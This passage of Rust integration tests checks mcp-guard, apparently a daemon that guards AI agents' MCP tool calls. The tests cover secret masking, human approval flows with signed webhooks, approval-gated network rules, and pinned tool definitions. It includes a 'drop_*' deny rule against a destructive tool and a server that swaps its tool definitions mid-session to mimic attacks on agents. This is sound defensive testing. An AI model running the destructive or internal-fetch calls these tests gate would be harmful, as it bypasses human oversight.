    mcp_guard_tests::assert_event_schema(&e);
    assert_eq!(e["verdict"], "masked", "{e:#}");
    assert_eq!(e["mcp"]["tool"], "fetch", "{e:#}");
    assert_eq!(e["mcp"]["request_id"], "3", "{e:#}");
    assert_eq!(
        metric(
            &d,
            "mcp_guard_mcp_secrets_total{action=\"masked\",kind=\"jwt\",workload=\"mcp\"}"
        ),
        1.0
    );

    // Report only: the bytes pass unchanged, the finding is reported.
    reload(&d, &config(&cg, "[workload.mcp]\nmask = \"report\"\n", ""));
    let out = client(&ns, &d, &fetch_server(), &calls, &[]);
    let text = out["results"][0]["text"].as_str().unwrap();
    assert!(text.contains(key) && text.contains(jwt), "{out}");
    wait_event(&d, "for the reported key", |e| {
        e["hook"] == "mcp" && e["secret"] == "aws-access-key-id" && e["verdict"] == "reported"
    });
}

/// Requests a webhook receiver got: headers and body of each.
type Hooks = std::sync::Arc<std::sync::Mutex<Vec<(String, Vec<u8>)>>>;

/// A webhook receiver on the host's loopback: every request's headers and body.
fn webhook_receiver() -> (u16, Hooks) {
    let l = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().unwrap().port();
    let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let g = got.clone();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let mut r = BufReader::new(s.try_clone().unwrap());
            let mut head = String::new();
            let mut len = 0;
            loop {
                let mut line = String::new();
                if r.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
                if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                    len = v.trim().parse().unwrap_or(0);
                }
                head.push_str(&line);
            }
            let mut body = vec![0; len];
            let _ = r.read_exact(&mut body);
            g.lock().unwrap().push((head, body));
            let _ =
                s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (port, got)
}

#[test]
fn approval_required_calls_wait_for_a_person() {
    let (ns, cg) = lab();
    let (port, hooks) = webhook_receiver();
    let keys = mcp_guard_tests::TempDir::new();
    let key = keys.0.join("webhook.key");
    std::fs::write(&key, "s3cret-key\n").unwrap();
    let staff = "50"; // Debian's staff group: the approvers
    let users = "100"; // users: may reach the control socket, not decide
    let relay = format!(
        "[workload.mcp]\napproval_tools = [\"update\"]\napprovers = [\"staff\"]\napproval_timeout = \"4s\"\nmax_duration = \"1m\"\napproval_webhook = \"http://127.0.0.1:{port}/hook\"\napproval_webhook_secret_file = \"{}\"\n",
        key.display()
    );
    let text = format!(
        "{}[daemon]\ncontrol_group = \"users\"\n",
        config(&cg, &relay, "")
    );
    let d = Daemon::start(&text);
    let calls = serde_json::json!([["update", {}], ["update", {}], ["update", {}], ["notes", {"text": "free"}]]);
    let child = spawn_client(&ns, &d, &rug_server(), &calls, &["--progress"]);

    // 1: a user who may reach the socket but is no approver is refused; a member of
    // staff approves.
    let id = mcp_guard_tests::next_pending(&d);
    let out = mcp_guard_tests::approvals_cli(
        &d,
        Some((4243, users)),
        &["approve", &id, "--reason", "me"],
    );
    assert!(!out.status.success(), "{}", output_text(&out));
    assert!(
        output_text(&out).contains("approvers"),
        "{}",
        output_text(&out)
    );
    let out = mcp_guard_tests::approvals_cli(
        &d,
        Some((4242, &format!("{users},{staff}"))),
        &["approve", &id, "--reason", "change 42"],
    );
    assert!(out.status.success(), "{}", output_text(&out));
    // 2: denied by root.
    let id2 = loop {
        let i = mcp_guard_tests::next_pending(&d);
        if i != id {
            break i;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let out = mcp_guard_tests::approvals_cli(
        &d,
        None,
        &["deny", &id2, "--reason", "not during the freeze"],
    );
    assert!(out.status.success(), "{}", output_text(&out));
    // 3: nobody answers: expired after 4 s. 4: a tool that needs no approval runs.
    let out = child.wait_with_output().expect("MCP client");
    assert!(out.status.success(), "{}", output_text(&out));
    let got: Value = serde_json::from_slice(&out.stdout).expect("client JSON");
    let r = &got["results"];
    assert_eq!(r[0]["text"], "updated", "approved: {got}");
    assert_eq!(r[1]["code"], -32001, "{got}");
    let why = r[1]["error"].as_str().unwrap();
    assert!(
        why.contains("approval-denied") && why.contains("not during the freeze"),
        "{got}"
    );
    assert!(
        r[2]["error"].as_str().unwrap().contains("approval-expired"),
        "{got}"
    );
    assert_eq!(r[3]["text"], "noted: free", "{got}");
    assert!(
        got["progress"]
            .as_array()
            .unwrap()
            .iter()
            .any(|m| m.as_str().unwrap_or("").contains("waiting for approval")),
        "the client asked for progress and heard the call waits: {got}"
    );

    // The records: every request and decision, who and why.
    let out = mcp_guard_tests::approvals_cli(&d, None, &["list", "--all", "--json"]);
    let all: Value = serde_json::from_slice(&out.stdout).expect("list JSON");
    let states: Vec<&str> = all
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["state"].as_str().unwrap())
        .collect();
    assert_eq!(states, ["approved", "denied", "expired"], "{all:#}");
    assert_eq!(all[0]["decided_by"]["uid"], 4242, "{all:#}");
    assert_eq!(all[0]["reason"], "change 42", "{all:#}");
    assert_eq!(all[1]["decided_by"]["uid"], 0, "{all:#}");
    for reason in [
        "approval-requested",
        "approval-approved",
        "approval-denied",
        "approval-expired",
    ] {
        let e = wait_event(&d, reason, |e| e["hook"] == "mcp" && e["reason"] == reason);
        mcp_guard_tests::assert_event_schema(&e);
        assert_eq!(e["mcp"]["tool"], "update", "{e:#}");
    }
    assert_eq!(
        metric(
            &d,
            "mcp_guard_mcp_approvals_total{event=\"requested\",workload=\"mcp\"}"
        ),
        3.0
    );

    // The webhook got every step, signed: HMAC-SHA256(key, "v1:" + timestamp + ":" + body).
    assert!(
        mcp_guard_tests::wait_until(Duration::from_secs(5), || hooks.lock().unwrap().len() >= 6),
        "webhook requests: {}",
        hooks.lock().unwrap().len()
    );
    for (head, body) in hooks.lock().unwrap().iter() {
        let h = |name: &str| {
            head.lines()
                .find_map(|l| {
                    let (k, v) = l.split_once(':')?;
                    (k.eq_ignore_ascii_case(name)).then(|| v.trim().to_string())
                })
                .unwrap_or_else(|| panic!("no {name} in {head}"))
        };
        use hmac::{KeyInit as _, Mac as _};
        let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(b"s3cret-key").unwrap();
        mac.update(format!("v1:{}:", h("x-mcp-guard-timestamp")).as_bytes());
        mac.update(body);
        let want: String = mac
            .finalize()
            .into_bytes()
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert_eq!(h("x-mcp-guard-signature"), format!("sha256={want}"));
        let v: Value = serde_json::from_slice(body).expect("JSON body");
        assert!(v["text"].as_str().unwrap().contains("mcp-guard"), "{v}");
    }
}

#[test]
fn a_held_call_is_refused_never_forwarded_when_the_daemon_restarts() {
    let (ns, cg) = lab();
    let relay = "[workload.mcp]\napproval_tools = [\"update\"]\napproval_timeout = \"1m\"\n";
    let mut d = Daemon::start(&config(&cg, relay, "[daemon]\non_exit = \"keep\"\n"));
    let calls = serde_json::json!([["update", {}], ["notes", {"text": "after"}]]);
    let child = spawn_client(&ns, &d, &rug_server(), &calls, &["--relist"]);
    let _held = mcp_guard_tests::next_pending(&d);
    d.kill9();
    d.restart();
    let out = child.wait_with_output().expect("MCP client");
    assert!(out.status.success(), "{}", output_text(&out));
    let got: Value = serde_json::from_slice(&out.stdout).expect("client JSON");
    let r = &got["results"];
    assert_eq!(r[0]["code"], -32001, "the held call is refused: {got}");
    assert!(
        r[0]["error"]
            .as_str()
            .unwrap()
            .contains("no approval request"),
        "{got}"
    );
    assert_eq!(r[1]["text"], "noted: after", "the session goes on: {got}");
    // `update` never ran: the server's tools are as they were.
    assert_eq!(
        got["tools_after"],
        serde_json::json!(["notes", "drop_table", "update"]),
        "{got}"
    );
}

#[test]
fn an_allow_rule_waiting_for_approval_opens_in_the_kernel_for_its_grant_only() {
    let (ns, cg) = lab();
    let (_, dir) = cg.child("mcp");
    let rule = format!(
        "[[workload.allow]]\ncidr = \"{INTERNAL}/32\"\nports = [5432]\napproval = \"required\"\napprovers = [\"root\"]\nmax_duration = \"1m\"\n[daemon]\non_exit = \"keep\"\n"
    );
    let mut d = Daemon::start(&config(&cg, "", &rule));
    let mut p = mcp_guard_tests::Probe::new(env!("CARGO_BIN_EXE_mcpg-probe"), &dir, &ns);
    let db = format!("tcp {INTERNAL} 5432");
    assert_eq!(p.op(&db), "EPERM", "dormant until approved");
    // The refusal raised a request for the rule.
    let id = mcp_guard_tests::next_pending(&d);
    let out = mcp_guard_tests::approvals_cli(&d, None, &["list", "--json"]);
    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(list[0]["kind"], "rule", "{list:#}");
    assert_eq!(
        list[0]["destination"],
        format!("{INTERNAL}:5432"),
        "{list:#}"
    );
    let out = mcp_guard_tests::approvals_cli(
        &d,
        None,
        &["approve", &id, "--reason", "migration", "--for", "3s"],
    );
    assert!(out.status.success(), "{}", output_text(&out));
    assert!(
        mcp_guard_tests::wait_until(Duration::from_secs(5), || p.op(&db) == "OK"),
        "open once approved"
    );
    // Other ports of the address stay closed.
    assert_eq!(p.op(&format!("tcp {INTERNAL} 80")), "EPERM");
    // The grant ends in the kernel.
    let e = wait_event(&d, "the approval", |e| {
        e["hook"] == "mcp" && e["reason"] == "approval-approved"
    });
    mcp_guard_tests::assert_event_schema(&e);
    assert_eq!(e["dst"], format!("{INTERNAL}:5432"), "{e:#}");
    std::thread::sleep(Duration::from_millis(3500));
    assert_eq!(p.op(&db), "EPERM", "closed when the grant ends");
    // A new request; its grant survives kill -9 and a restart of the daemon.
    let id2 = loop {
        let i = mcp_guard_tests::next_pending(&d);
        if i != id {
            break i;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let out = mcp_guard_tests::approvals_cli(
        &d,
        None,
        &["approve", &id2, "--reason", "again", "--for", "1m"],
    );
    assert!(out.status.success(), "{}", output_text(&out));
    assert!(mcp_guard_tests::wait_until(Duration::from_secs(5), || p
        .op(&db)
        == "OK"));
    std::thread::sleep(Duration::from_millis(1500)); // the grant is written to disk
    d.kill9();
    assert_eq!(p.op(&db), "OK", "pinned: open while the daemon is down");
    d.restart();
    assert_eq!(p.op(&db), "OK", "the restarted daemon keeps the grant");
}

#[test]
fn a_call_naming_a_destination_that_waits_for_approval_is_held_until_approved() {
    let (ns, cg) = lab();
    let rule = format!(
        "[[workload.allow]]\ncidr = \"{INTERNAL}/32\"\nports = [80]\napproval = \"required\"\nmax_duration = \"1m\"\n"
    );
    let d = Daemon::start(&config(&cg, "[workload.mcp]\n", &rule));
    let calls =
        serde_json::json!([["fetch", {"url": format!("http://{INTERNAL}/admin"), "raw": true}]]);
    let child = spawn_client(&ns, &d, &fetch_server(), &calls, &[]);
    let id = mcp_guard_tests::next_pending(&d);
    let out = mcp_guard_tests::approvals_cli(&d, None, &["list"]);
    assert!(
        output_text(&out).contains(&format!("destination={INTERNAL}:80")),
        "{}",
        output_text(&out)
    );
    let out = mcp_guard_tests::approvals_cli(&d, None, &["approve", &id, "--reason", "debugging"]);
    assert!(out.status.success(), "{}", output_text(&out));
    let out = child.wait_with_output().expect("MCP client");
    assert!(out.status.success(), "{}", output_text(&out));
    let got: Value = serde_json::from_slice(&out.stdout).expect("client JSON");
    assert!(
        got["results"][0]["text"]
            .as_str()
            .unwrap_or_default()
            .contains("internal-admin-page"),
        "held, then forwarded once the rule opened: {got}"
    );
}

#[test]
fn tool_rules_and_pinned_definitions_hold_across_kill_9_and_restart() {
    let (ns, cg) = lab();
    let relay = "[workload.mcp]\ndeny_tools = [\"drop_*\"]\npin_tools = true\n";
    let mut d = Daemon::start(&config(&cg, relay, "[daemon]\non_exit = \"keep\"\n"));
    let calls = serde_json::json!([["update", {}]]);
    let then =
        serde_json::json!([["notes", {"text": "b"}], ["drop_table", {"name": "t"}]]).to_string();
    let child = spawn_client(
        &ns,
        &d,
        &rug_server(),
        &calls,
        &["--hold", "6", "--relist", "--then", &then],
    );
    assert!(
        mcp_guard_tests::wait_until(Duration::from_secs(20), || try_metric(
            &d,
            "mcp_guard_mcp_tool_calls_total{workload=\"mcp\"}"
        )
        .is_some_and(|v| v >= 1.0)),
        "update was called"
    );
    d.kill9();
    d.restart();
    let out = child.wait_with_output().expect("MCP client");
    assert!(out.status.success(), "{}", output_text(&out));
    let got: Value = serde_json::from_slice(&out.stdout).expect("client JSON");
    assert_eq!(
        got["tools"],
        serde_json::json!(["notes", "update"]),
        "{got}"
    );
    assert_eq!(got["results"][0]["text"], "updated", "{got}");
    // The definitions the session first saw are the relay's: the restarted daemon hides
    // the changed tool and refuses its call, and the denied tool stays denied.
    assert_eq!(got["tools_after"], serde_json::json!(["update"]), "{got}");
    assert!(
        got["results"][1]["error"]
            .as_str()
            .unwrap_or("")
            .contains("pin_tools"),
        "{got}"
    );
    assert!(
        got["results"][2]["error"]
            .as_str()
            .unwrap_or("")
            .contains("deny_tools"),
        "{got}"
    );
}
